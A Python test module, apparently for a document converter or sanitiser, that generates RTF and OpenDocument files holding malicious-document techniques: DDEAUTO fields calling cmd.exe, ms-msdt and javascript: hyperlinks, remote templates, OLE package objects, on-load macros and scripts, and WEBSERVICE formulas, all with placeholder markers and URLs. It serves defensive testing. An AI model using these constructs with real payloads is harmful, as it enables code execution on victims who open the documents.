"""RTF and OpenDocument files that run, load or link. They come out as Word and Excel files through LibreOffice."""

import io
import zipfile
from collections.abc import Iterator

from .common import MARKER, URL, Attack, opened

_WORDS = "Visible words"
_HEX = MARKER.encode().hex()
# An OLE 1.0 package: version, embedded, class "Package", then the data ([MS-OLEDS] 2.2.4).
OBJECT = "010500000200000008000000" + b"Package\0".hex() + "0000000000000000" + "10000000" + _HEX


def shows_words(output: bytes) -> bool:
    return _WORDS.encode() in opened(output)


def rtf(inside: str, *, head: str = "") -> bytes:
    return f"{{\\rtf1\\ansi\\ansicpg1252{head}{{\\fonttbl{{\\f0 Arial;}}}}\\f0 {_WORDS}\\par {inside}\\par}}".encode()


def field(code: str) -> str:
    return f"{{\\field{{\\*\\fldinst {code}}}{{\\fldrslt result}}}}"


_RTF = {
    "object": rtf(f"{{\\object\\objemb\\objw1\\objh1{{\\*\\objdata {OBJECT}}}}}"),
    "object that updates": rtf(f"{{\\object\\objautlink\\objupdate{{\\*\\objdata {OBJECT}}}}}"),
    "object in odd digits": rtf(f"{{\\object\\objocx{{\\*\\objdata {OBJECT[:20]}\n {{\\x}}{OBJECT[20:]}}}}}"),
    "html object": rtf(f"{{\\object\\objhtml{{\\*\\objclass htmlfile}}{{\\*\\objdata {OBJECT}}}}}"),
    "equation": rtf(f"{{\\object\\objemb{{\\*\\objclass Equation.3}}{{\\*\\objdata 0105000002000000{b'Equation.3'.hex()}{_HEX}}}}}"),
    "template from elsewhere": rtf("", head=f"{{\\*\\template {URL}}}"),
    "template of another machine": rtf("", head=f"{{\\*\\template \\\\\\\\127.0.0.1\\\\{MARKER}}}"),
    "dde": rtf(field(f'DDE "cmd" "/k {MARKER}"')),
    "dde auto": rtf(field(f'DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k {MARKER}"')),
    "dde in codes": rtf(field(f"\\'44\\'44\\'45\\'41\\'55\\'54\\'4f \"cmd\" \"{MARKER}\"")),
    "dde in pieces": rtf(f"{{\\field{{\\*\\fldinst {{DD}}{{EAUTO}} \"{MARKER}\"}}{{\\fldrslt result}}}}"),
    "included picture": rtf(field(f'INCLUDEPICTURE "{URL}.png" \\\\d')),
    "included text": rtf(field(f'INCLUDETEXT "{URL}"')),
    "link": rtf(field(f'LINK Excel.Sheet.8 "{URL}" A1')),
    "script hyperlink": rtf(field(f'HYPERLINK "javascript:{MARKER}"')),
    "file hyperlink": rtf(field(f'HYPERLINK "file://127.0.0.1/{MARKER}"')),
    "diagnostics hyperlink": rtf(field(f'HYPERLINK "ms-msdt:/id {MARKER}"')),
    "macro button": rtf(field(f"MACROBUTTON {MARKER} click")),
    "metafile": rtf(f"{{\\pict\\emfblip\\picw1\\pich1 {_HEX}}}"),
    "author and company": rtf("", head=f"{{\\info{{\\author {MARKER}}}{{\\company {MARKER}}}{{\\doccomm {MARKER}}}}}"),
    "variables": rtf("", head=f"{{\\*\\docvar {{a}}{{{MARKER}}}}}"),
    "user properties": rtf("", head=f"{{\\*\\userprops {{\\propname a}}\\proptype30{{\\staticval {MARKER}}}}}"),
    "unknown destination": rtf(f"{{\\*\\evil {MARKER}}}"),
    "binary run": rtf(f"{{\\*\\evil\\bin{len(MARKER)} {MARKER}}}"),
    "bytes behind": rtf("") + MARKER.encode(),
    "mail merge": rtf("", head=f"{{\\*\\mailmerge{{\\mmconnectstr {MARKER}}}{{\\mmdatasource {URL}}}}}"),
    "dde within a field": rtf(field(f"IF {field(f'DDEAUTO cmd {MARKER}')} = 1")),
    "dde in a header": rtf(f"{{\\header {field(f'DDEAUTO cmd {MARKER}')}}}"),
    "dde in the words of a shape": rtf(f"{{\\shp{{\\*\\shpinst\\shpright2000\\shpbottom2000{{\\sp{{\\sn shapeType}}{{\\sv 202}}}}{{\\shptxt {field(f'DDEAUTO cmd {MARKER}')}\\par}}}}}}"),
    "link of a shape": rtf(f"{{\\shp{{\\*\\shpinst\\shpright2000\\shpbottom2000{{\\sp{{\\sn shapeType}}{{\\sv 1}}}}{{\\sp{{\\sn pihlShape}}{{\\sv {{\\*\\hl{{\\hlsrc file:///{MARKER}}}{{\\hlfr {MARKER}}}}}}}}}}}}}"),
    "linked picture of a shape": rtf(f"{{\\shp{{\\*\\shpinst\\shpright2000\\shpbottom2000{{\\sp{{\\sn pibName}}{{\\sv {URL}}}}}{{\\sp{{\\sn pibFlags}}{{\\sv 10}}}}}}}}"),
    "sub-document": rtf("\\sectd\\subdocument1", head=f"{{\\*\\filetbl{{\\file\\fid1\\fosnum0 {URL}}}}}"),
    "form field with macros": rtf(f"{{\\field{{\\*\\fldinst FORMTEXT {{\\*\\formfield{{\\fftype0{{\\*\\ffentrymcr {MARKER}}}{{\\*\\ffexitmcr {MARKER}}}}}}}}}{{\\fldrslt 1}}}}"),
    "script of a mail": rtf(f"{{\\*\\htmltag84 <script src={URL}></script>}}", head="\\fromhtml1"),
}  # fmt: skip

_NAMES = " ".join(
    f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for prefix, name in {"office": "office", "text": "text", "table": "table", "draw": "drawing", "script": "script",
                         "form": "form", "style": "style", "meta": "meta", "presentation": "presentation", "anim": "animation"}.items()
)  # fmt: skip
_SPACES = _NAMES + (
    ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    ' xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:smil="urn:oasis:names:tc:opendocument:xmlns:smil-compatible:1.0"'
    ' xmlns:field="urn:openoffice:names:experimental:ooo-ms-interop:xmlns:field:1.0"'
    # prefixes within values: without them LibreOffice knows neither events nor formulas
    ' xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:ooo="http://openoffice.org/2004/office"'
    ' xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"'
    ' xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
)
_MANIFEST = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"


def open_document(
    kind: str,
    body: str,
    *,
    before: str = "",
    more: dict[str, str] | None = None,
    meta: str = "",
    dtd: str = "",
) -> bytes:
    mime = f"application/vnd.oasis.opendocument.{kind}"
    content = (
        f'<?xml version="1.0"?>{dtd}<office:document-content {_SPACES} office:version="1.2">{before}'
        f"<office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    )
    files = {"content.xml": content, **(more or {})}
    if meta:
        files["meta.xml"] = (
            f'<?xml version="1.0"?><office:document-meta {_SPACES}><office:meta>{meta}</office:meta></office:document-meta>'
        )
    listed = "".join(f'<m:file-entry m:full-path="{name}" m:media-type="text/xml"/>' for name in files)
    files["META-INF/manifest.xml"] = (
        f'<?xml version="1.0"?><m:manifest xmlns:m="{_MANIFEST}"><m:file-entry m:full-path="/" m:media-type="{mime}"/>{listed}</m:manifest>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("mimetype", mime)
        for name, text in files.items():
            package.writestr(name, text)
    return out.getvalue()


def text(inside: str = "", **rest: object) -> bytes:
    return open_document("text", f"<text:p>{_WORDS}</text:p>{inside}", **rest)  # type: ignore[arg-type]


def sheet(cells: str = "", *, head: str = "", inner: str = "", tail: str = "", **rest: object) -> bytes:
    """One sheet; ``head``, ``inner`` and ``tail`` stand before it, in it before the rows, and behind it."""
    row = f'<table:table-cell office:value-type="string"><text:p>{_WORDS}</text:p></table:table-cell>{cells}'
    body = f'{head}<table:table table:name="A">{inner}<table:table-row>{row}</table:table-row></table:table>{tail}'
    return open_document("spreadsheet", body, **rest)  # type: ignore[arg-type]


def slides(inside: str = "", *, page: str = "", more: dict[str, str] | None = None, **rest: object) -> bytes:
    """One slide; ``page``: attributes of it."""
    frame = f"<draw:frame svg:width='9cm' svg:height='2cm'><draw:text-box><text:p>{_WORDS}</text:p></draw:text-box></draw:frame>"
    body = f"<draw:page draw:name='p' draw:master-page-name='D' {page}>{frame}{inside}</draw:page>"
    styles = (
        f"<office:document-styles {_SPACES} office:version='1.2'><office:automatic-styles><style:page-layout style:name='L'/>"
        "</office:automatic-styles><office:master-styles><style:master-page style:name='D' style:page-layout-name='L'/>"
        "</office:master-styles></office:document-styles>"
    )
    return open_document("presentation", body, more={"styles.xml": styles, **(more or {})}, **rest)  # type: ignore[arg-type]


def clicked(does: str, inside: str = "") -> str:
    """A shape that does something when it is clicked."""
    event = f"<presentation:event-listener script:event-name='dom:click' {does}>{inside}</presentation:event-listener>"
    return (
        f"<draw:rect draw:id='r' xml:id='r' svg:width='3cm' svg:height='2cm' svg:y='4cm'>"
        f"<office:event-listeners>{event}</office:event-listeners><text:p>box</text:p></draw:rect>"
    )


def flat(kind: str, body: str, before: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?><office:document {_SPACES} office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.{kind}">'
        f"{before}<office:body><office:{kind}>{body}</office:{kind}></office:body></office:document>"
    ).encode()


def formula(formula: str) -> bytes:
    return sheet(
        f'<table:table-cell table:formula="{formula}" office:value-type="string"><text:p>result</text:p></table:table-cell>'
    )


LISTENER = f'<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:{MARKER}?language=Basic&amp;location=document"/>'
FRAME = '<text:p><draw:frame text:anchor-type="paragraph">{}</draw:frame></text:p>'
_OPEN: dict[str, tuple[str, bytes]] = {
    "macro": ("odt", text(more={"Basic/Standard/Module1.xml": MARKER, "Basic/script-lc.xml": "<x/>"})),
    "script in python": ("odt", text(more={"Scripts/python/a.py": MARKER})),
    "event on opening": ("odt", text(before=f"<office:scripts><office:event-listeners>{LISTENER}</office:event-listeners></office:scripts>")),
    "script field": ("odt", text(f"<text:p><text:script script:language='JavaScript' xlink:href='{URL}'>{MARKER}</text:script></text:p>")),
    "macro field": ("odt", text(f"<text:p><text:execute-macro text:name='{MARKER}'>run{LISTENER}</text:execute-macro></text:p>")),
    "picture from elsewhere": ("odt", text(FRAME.format(f"<draw:image xlink:href='{URL}.png'/>"))),
    "object from elsewhere": ("odt", text(FRAME.format(f"<draw:object xlink:href='{URL}'/>"))),
    "ole object": ("odt", text(FRAME.format("<draw:object-ole xlink:href='./Object 1'/>"), more={"Object 1": MARKER})),
    "plugin": ("odt", text(FRAME.format(f"<draw:plugin xlink:href='{URL}' draw:mime-type='a/b'/>"))),
    "applet": ("odt", text(FRAME.format(f"<draw:applet draw:code='{MARKER}' xlink:href='{URL}'/>"))),
    "frame from elsewhere": ("odt", text(FRAME.format(f"<draw:floating-frame xlink:href='{URL}'/>"))),
    "section from elsewhere": ("odt", text(f"<text:section text:name='a'><text:section-source xlink:href='{URL}'/><text:p>x</text:p></text:section>")),
    "dde section": ("odt", text(f"<text:section text:name='a'><office:dde-source office:dde-application='soffice' office:dde-topic='{MARKER}' office:dde-item='a'/><text:p>x</text:p></text:section>")),
    "script link": ("odt", text(f"<text:p><text:a xlink:href='vnd.sun.star.script:{MARKER}'>x</text:a></text:p>")),
    "javascript link": ("odt", text(f"<text:p><text:a xlink:href='javascript:{MARKER}'>x</text:a></text:p>")),
    "form": ("odt", text(f"<office:forms><form:form form:name='a' xlink:href='{URL}'><form:button form:id='b' form:label='x' xlink:href='{URL}'/></form:form></office:forms>")),
    "properties": ("odt", text(meta=f"<dc:creator>{MARKER}</dc:creator><meta:user-defined meta:name='a'>{MARKER}</meta:user-defined><meta:template xlink:href='{URL}'/>")),
    "database field": ("odt", text(f"<text:p><text:database-display text:database-name='{MARKER}' text:table-name='a' text:column-name='b'>x</text:database-display></text:p>")),
    "dde connection": ("odt", text(f"<text:dde-connection-decls><text:dde-connection-decl office:name='a' office:dde-application='cmd' office:dde-topic='{MARKER}' office:dde-item='x' office:automatic-update='true'/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name='a'>x</text:dde-connection></text:p>")),
    "link with a listener": ("odt", text(f"<text:p><text:a xlink:href='file://127.0.0.1/{MARKER}' office:target-frame-name='_top'><office:event-listeners>{LISTENER}</office:event-listeners>x</text:a></text:p>")),
    "object with a picture of it": ("odt", text(FRAME.format("<draw:object xlink:href='./Object 1'/><draw:image xlink:href='./ObjectReplacements/Object 1'/>"), more={"Object 1/content.xml": f"<x>{MARKER}</x>", "ObjectReplacements/Object 1": MARKER})),
    "query of a database": ("ods", sheet(tail=f"<table:database-ranges><table:database-range table:name='a' table:target-range-address='A.A1:A.A2'><table:database-source-sql table:database-name='{MARKER}' table:sql-statement='{MARKER}'/></table:database-range></table:database-ranges>")),
    "table from elsewhere": ("ods", sheet(tail=f"<table:table table:name='B'><table:table-source xlink:href='{URL}' table:table-name='x'/><table:table-row><table:table-cell/></table:table-row></table:table>")),
    "web formula of a name": ("ods", sheet(tail=f"<table:named-expressions><table:named-expression table:name='a' table:base-cell-address='$A.$A$1' table:expression='of:=WEBSERVICE(&quot;{URL}&quot;)'/></table:named-expressions>")),
    "place in another book": ("ods", formula(f"of:=INDIRECT(&quot;'file:///{MARKER}.ods'#$A.A1&quot;)")),
    "dde formula": ("ods", formula(f"of:=DDE(&quot;soffice&quot;;&quot;{MARKER}&quot;;&quot;a&quot;)")),
    "web formula": ("ods", formula(f"of:=WEBSERVICE(&quot;{URL}&quot;)")),
    "external cell": ("ods", formula(f"of:=['file:///{MARKER}.ods'#$A.A1]")),
    "script hyperlink formula": ("ods", formula(f"of:=HYPERLINK(&quot;javascript:{MARKER}&quot;;&quot;x&quot;)")),
    "range from elsewhere": ("ods", sheet(f"<table:table-cell><table:cell-range-source table:name='a' xlink:href='{URL}' table:last-column-spanned='1' table:last-row-spanned='1'/></table:table-cell>")),
    "dde link": ("ods", sheet(tail=f"<table:dde-links><table:dde-link><office:dde-source office:dde-application='soffice' office:dde-topic='{MARKER}' office:dde-item='a'/><table:table/></table:dde-link></table:dde-links>")),
    "sheet event": ("ods", sheet(before=f"<office:scripts><office:event-listeners>{LISTENER}</office:event-listeners></office:scripts>")),
    "macro of a workbook": ("ods", sheet(more={"Basic/Standard/Module1.xml": MARKER})),
}  # fmt: skip


def _attacks() -> Iterator[Attack]:
    for name, data in _RTF.items():
        broken = name == "metafile"  # LibreOffice makes nothing of it
        yield Attack(f"rtf {name}", lambda data=data: data, "rtf", shows=shows_words, refused=broken)
    for name, (extension, data) in _OPEN.items():
        yield Attack(f"{extension} {name}", lambda data=data: data, extension, shows=shows_words)


ATTACKS = tuple(_attacks())
